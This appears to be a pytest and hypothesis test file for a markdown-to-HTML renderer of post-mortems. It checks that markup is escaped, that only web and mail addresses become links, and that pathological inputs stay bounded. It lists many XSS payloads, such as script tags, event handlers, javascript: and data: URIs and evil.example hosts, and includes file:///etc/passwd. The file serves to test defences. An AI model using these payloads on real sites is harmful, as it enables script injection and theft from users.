"""What a post-mortem's text becomes in a page: markup is shown as text, items have their state beside them."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.documents.parse import FILE_LIMIT, parse
from app.documents.rendered import ATTRIBUTES, ID, TAGS, Beside, rendered
from app.errors import BadInput
from tests.documents.fuzz import fuzzed
from tests.documents.test_corpus import CORPUS, documents
from tests.hang import ends

SAMPLES = sorted((Path(__file__).parents[1] / "world" / "sample").rglob("*.md"))
_VOID = ("br", "hr")
_VALUES = {
    "href": re.compile(rf"https?://\S+|mailto:\S+|#{ID}\S+|/runs/\S+", re.IGNORECASE),
    "id": re.compile(rf"{ID}.*"),
    "class": re.compile(r"plain|raw|wide|box|outcome is-[a-z-]+"),
    "scope": re.compile("col"),
    "rel": re.compile("noopener noreferrer nofollow"),
    "tabindex": re.compile("0"),
    "role": re.compile("region"),
    "aria-label": re.compile(r"Table \d+"),
    "colspan": re.compile(r"\d+"),
    "start": re.compile(r"\d+"),
}


class Watch(HTMLParser):
    """Every tag and attribute that a browser would see, and what of it should not be there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.wrong: list[str] = []
        self.addresses: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS or (tag == "a" and "a" in self.open):
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, ()) or not _VALUES[name].fullmatch(value or ""):
                self.wrong.append(f"{tag} {name}={value}")
            if name == "href":
                self.addresses.append(value or "")
        if tag not in _VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.wrong.append(f"</{tag}>")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"instruction {data}")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(f"declaration {data}")


def watched(text: str, *beside: Beside) -> Watch:
    found = Watch()
    found.feed(str(rendered(text, beside)))
    found.close()
    assert (found.wrong, found.open) == ([], []), text
    return found


HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{background:url(//evil.example)}</style>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<form action=//evil.example><input name=csrf></form>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></p><style><img src onerror=alert(1)></style>",
    "</p></div></article><script>alert(1)</script>",
    "<img src='x' onerror='alert(1)'",
    "<<script>alert(1)//<</script>",
    "<br onmouseover=alert(1)>",
    "<div\nonclick=alert(1)>x</div>",
    "<textarea></textarea><script>alert(1)</script>",
]
PLACES = ["{}", "a {} b", "# {}", "- {}", "> {}", "|a|b|\n|-|-|\n|{}|x|\n", "[{}](https://x.example)", "**{}**"]
PLACES += [
    "![{}](x.png)",
    "```{}\ncode\n```",
    "```\n{}\n```",
    "    {}",
    "{}\n===",
    "`{}`",
    '[a](https://x.example "{}")',
]
PLACES += ["---\ntitle: {}\n---\n\n# x\n", "[{0}][{0}]\n\n[{0}]: https://x.example '{0}'\n", "1. - > {}", "&lt;{}&gt;"]


@pytest.mark.parametrize("place", PLACES)
def test_html_is_text(place: str) -> None:
    for evil in HTML:
        found = watched(place.format(evil))
        if place == "a {} b":
            assert re.sub(r"\s+", "", evil) in re.sub(r"\s+", "", found.text)


ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#115;cript:alert(1)",
    "java&#x73;cript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106&#97&#118&#97script:alert(1)",
    "java\\script:alert(1)",
    "java%73cript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html,x",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://x.example/1",
    "view-source:https://x.example",
    "feed:javascript:alert(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/logout",
    "../runbooks/x.md",
    "?x=1",
    "https:javascript",
    'http://"onmouseover=alert(1)',
    "https://x.example/\u202egnp",
]
LINKS = ["[a]({})", "![a]({})", "[a](<{}>)", "[a][r]\n\n[r]: {}\n", "[r]\n\n[r]: <{}>\n", "<{}>", "[![a]({0})]({0})"]


@pytest.mark.parametrize("link", LINKS)
def test_only_web_and_mail_addresses_are_links(link: str) -> None:
    for address in ADDRESSES:
        for found in watched(link.format(address)).addresses:
            assert found.lower().startswith(("https://x.example/", "mailto:")), found


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("[a](https://x.example/a?b=c&d=%20#e)", "https://x.example/a?b=c&d=%20#e"),
        ("![a](http://x.example/a.png)", "http://x.example/a.png"),
        ("<https://x.example>", "https://x.example"),
        ("see https://x.example/a.", "https://x.example/a"),
        ("<ana@x.example>", "mailto:ana@x.example"),
        ("[a][R]\n\n[r]: https://x.example 'title'", "https://x.example"),
        ("[a](#what-happened)", f"#{ID}what-happened"),
        ("[![badge](http://x.example/b.svg)](https://x.example/ci)", "https://x.example/ci"),
    ],
)
def test_what_may_be_followed_is_a_link(text: str, address: str) -> None:
    assert watched(text).addresses == [address]


TEXT = """\
---
severity: SEV1
---
# Outage

## What happened
## What happened

Cause:
it ~~was~~ *is* **bad** `code &amp;`

## Prevention Plan

| Action | Type | Status |
|---|:-:|---|
| Watch it | Monitor | TODO |
| Short
| Too | many | cells | here |

3. three

- [ ] Ask them
- [x] Told them
  - deeper

> quoted

***

```sh
ls <here>
```
"""


def test_what_markdown_has_is_there() -> None:
    text = str(rendered(TEXT))
    assert f'<h2 id="{ID}outage">Outage</h2>' in text
    assert f'<h3 id="{ID}what-happened">' in text and f'<h3 id="{ID}what-happened-2">' in text
    assert "<del>was</del> <em>is</em> <strong>bad</strong> <code>code &amp;amp;</code>" in text
    assert '<th scope="col">Action</th><th scope="col">Type</th>' in text
    assert '<tr><td>Short</td><td colspan="2"></td></tr>' in text
    assert "<tr><td>Too</td><td>many</td><td>cells</td><td>here</td></tr>" in text
    assert '<ol start="3">' in text and "<blockquote>" in text and "<hr>" in text
    assert '<span class="box">☐</span> Ask them' in text and '<span class="box">☑</span> Told them' in text
    assert "<code>ls &lt;here&gt;\n</code>" in text
    assert text.startswith('<pre class="plain" tabindex="0">severity: SEV1</pre>')


def test_each_item_has_its_state_beside_it() -> None:
    items = parse(TEXT.encode(), "x.md").items
    lines = {item.action: item.line for item in items}
    beside = [Beside(lines["Watch it"], "done", "/runs/r-1#todo-x"), Beside(lines["Ask them"], "needs-human")]
    text = str(rendered(TEXT, beside))
    assert '<th scope="col">State</th><th scope="col">Action</th>' in text
    badge = '<a class="outcome is-done" href="/runs/r-1#todo-x">done</a> '
    assert f"<tr><td>{badge}</td><td>Watch it</td>" in text
    assert '<li><span class="outcome is-needs-human">needs human</span> <span class="box">☐</span> Ask them' in text
    assert text.count("outcome is-") == 2


def test_what_stands_beside_is_no_way_in_either() -> None:
    for link in ("javascript:alert(1)", "//evil.example", '/runs/"><script>', "/\\evil.example"):
        found = watched("- [ ] x", Beside(1, '"><script>', link))
        assert found.addresses == [] and "other" in found.text


def test_what_hides_or_reorders_text_is_shown() -> None:
    assert "a\\u202eb\\u0000" in rendered("a\u202eb\0")


@pytest.mark.parametrize("file", SAMPLES, ids=lambda f: f.name)
def test_sample_documents_are_rendered(file: Path) -> None:
    text = file.read_text()
    assert watched(text).text.strip()


@pytest.mark.skipif(not CORPUS.is_dir(), reason="the corpus of real post-mortems is not here")
def test_real_documents_have_each_of_their_items_marked() -> None:
    for data, _ in documents():
        try:
            lines = {item.line for item in parse(data, "x.md").items}
        except BadInput:
            lines = set()
        text = data.decode("utf-8", "replace")
        watched(text, *(Beside(line, "done") for line in lines))
        assert str(rendered(text, [Beside(line, "done") for line in lines])).count("outcome is-done") == len(lines)


HARD = {
    "quotes": ">" * 60_000,
    "lists": "".join("  " * n + "- x\n" for n in range(400)),
    "emphasis": "*[a_" * 4_900,
    "brackets": "![" * 9_900,
    "codes": "".join("`" * n + " " for n in range(1, 190)),
    "a wide table": "|a" * 20_000 + "|\n" + "|-" * 20_000 + "|\n" + "|x\n" * 5_000,
    "a long paragraph": "*a [b](c " * 25_000,
    "definitions": "[a]: b\n" * 9_000,
    "too many lines": "# x\n" * 50_000,
    "too large": "<b>" * (FILE_LIMIT // 2),
}


@pytest.mark.parametrize("name", HARD)
def test_nothing_takes_long_or_grows_without_bound(name: str) -> None:
    with ends():
        text = rendered(HARD[name])
    assert len(text) < 20 * len(HARD[name]) + 1000


_MARKS = (
    "[",
    "](",
    ")",
    "![",
    "]",
    "<",
    ">",
    "|",
    "|-|-|",
    "\n",
    "\n\n",
    "- ",
    "1. ",
    "> ",
    "#",
    "`",
    "```",
    "*",
    "_",
    "~~",
)
_REST = ("&#106;", "&lt;", "\\", "    ", "\t", "[x]: ", "https://x.example/", '"', "'", "<br>", "\0", "é")
PIECES = st.sampled_from((*HTML, *ADDRESSES, *_MARKS, *_REST))


@fuzzed(80)
@given(st.lists(PIECES | st.text(max_size=8), max_size=30).map("".join), st.sets(st.integers(1, 12)))
def test_no_other_tag_or_attribute_ever_comes_out(text: str, lines: set[int]) -> None:
    watched(text, *(Beside(line, "failed", "/runs/r") for line in lines))
